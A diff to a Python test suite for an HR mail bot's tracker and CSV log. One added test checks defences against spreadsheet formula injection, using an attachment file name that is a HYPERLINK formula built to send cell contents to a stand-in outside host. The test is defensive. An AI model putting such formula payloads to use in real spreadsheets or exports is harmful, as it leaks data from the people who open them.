@@ -32,6 +32,7 @@ from bot.records import (
 )
 from bot.season.items import LEADER_REVIEW, PERSONAL_REPORT, TEAM_REPORT
 from bot.reports.tracker import log_csv_path, tracker_path, write_tracker
+from bot.season.roster import load_roster
 
 SHANGHAI = ZoneInfo("Asia/Shanghai")
 AS_OF = date(2026, 12, 8)
@@ -323,7 +324,7 @@ def test_tracker_log_csv_written_atomically_beside_the_workbook(tmp_path, rows, 
         raise PermissionError(13, "Permission denied")
 
     monkeypatch.setattr("bot.crashpoints.os.replace", locked)
-    with pytest.raises(HrbotError, match="邮件日志.csv"):
+    with pytest.raises(HrbotError, match="考核材料跟踪表-2026-12-08.xlsx"):
         write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI)
     monkeypatch.undo()
     assert list(tmp_path.iterdir()) == []  # neither file, no temp file
@@ -347,3 +348,31 @@ def test_tracker_todo_one_line_per_stranger_with_held_files(tmp_path, rows, log,
     assert "“邮箱”格末尾加上 ;-x@supplier.example" in quotes[4] and "hrbot reprocess --all-held" in quotes[4]
     assert liu[3] == "「述职报告」：发件人不在名单中，附件 刘洋述职报告.docx 未登记"
     assert "hrbot reprocess --message <q@x>" in liu[4]
+
+
+def test_tracker_csv_no_cell_reads_as_a_formula_not_even_a_reason_that_starts_with_the_file_name(config_dir, tmp_path):
+    """A refused tally's reason begins with the sender's file name: that cell is made inert like the others."""
+    import csv
+    import io
+
+    from bot.reports.tracker import _log_csv
+
+    name = '=HYPERLINK("http://x.example/?"&A2,"x").xlsx'
+    entry = LogEntry("<a@x>", "lijianguo@tengfei.example", datetime(2026, 12, 4, 1, tzinfo=timezone.utc), "rejected",
+                     reason="-1", subject="+1",
+                     attachments=[AttachmentLog(name, "rejected", f"{name} 第 3 行：实到人数 130 多于应到人数 126")])
+    [header, row] = list(csv.reader(io.StringIO(_log_csv([entry], {}, timezone.utc).decode("utf-8-sig"))))
+    assert [cell[:1] for cell in row if cell[:1] in ("=", "+", "-", "@")] == []
+    assert row[5].startswith("'=") and row[7].startswith("'=")
+
+
+def test_tracker_csv_that_cannot_be_replaced_leaves_the_workbook_written(config_dir, tmp_path, caplog):
+    """HR has the day's CSV open (Excel locks it on Windows): the workbook, which the summary mails, is written all
+    the same, and the failure is logged."""
+    roster = load_roster(config_dir)
+    folder, day = tmp_path / "tracker", date(2026, 12, 4)
+    folder.mkdir()
+    log_csv_path(folder, day).mkdir()  # stands in for a locked file: replacing it fails
+    assert write_tracker(folder, day, [], [], roster, timezone.utc) == tracker_path(folder, day)
+    assert tracker_path(folder, day).is_file()
+    assert "full mail log was not written" in caplog.text
